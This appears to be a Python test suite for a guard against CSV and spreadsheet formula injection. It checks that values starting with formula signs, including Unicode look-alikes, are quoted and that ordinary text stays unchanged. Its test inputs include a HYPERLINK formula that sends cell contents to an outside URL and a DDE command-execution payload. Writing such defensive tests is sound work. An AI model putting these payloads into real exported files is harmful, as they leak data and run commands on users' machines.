"""No text from outside runs in a spreadsheet, and every other text stays as it is."""

import csv
import io
import unicodedata
from itertools import product

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from plugin.core.cells import cell, csv_row

SIGNS = "=+-@\t\r\n|%＝＋－＠﹢﹣﹦﹫＝⁺⁼"


BEFORE = ("", " ", "\u3000", "\u200b", "\ufeff", "'", '"', "\x00", "\x1b", " \u00a0\u2060 ")


def test_what_a_spreadsheet_could_run_is_guarded() -> None:
    texts = [f"{before}{sign}1+1" for before, sign in product(BEFORE, [*SIGNS, "\x00"])]
    assert [text for text in texts if not cell(text).startswith("'")] == []


@pytest.mark.parametrize(
    "text",
    [
        "-1",
        "+81 3-1234-5678",
        '=HYPERLINK("https://example.com/?"&A1)',
        "@SUM(1)",
        "＝cmd|' /C calc'!A0",
        "\tx",
        "\r=1",
    ],
)
def test_the_known_ways_are_guarded(text: str) -> None:
    assert cell(text)[0] == "'"


@pytest.mark.parametrize("text", ["", "佐藤 花子", "1", "03-1234-5678", "a=b", "髙橋＝", "x\ny", "C-1024", "0"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


@given(st.text())
@example("\ufeff=1")
def test_a_cell_never_begins_with_a_sign(text: str) -> None:
    shown = cell(text)
    first = shown.lstrip()[:1]
    assert not first or unicodedata.normalize("NFKC", first)[:1] not in "=+-@"
    assert "\x00" not in shown


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_a_row_is_read_back_as_the_same_cells(texts: list[str]) -> None:
    read = list(csv.reader(io.StringIO(csv_row(texts), newline=""), strict=True))
    assert read == [[cell(text) for text in texts]]
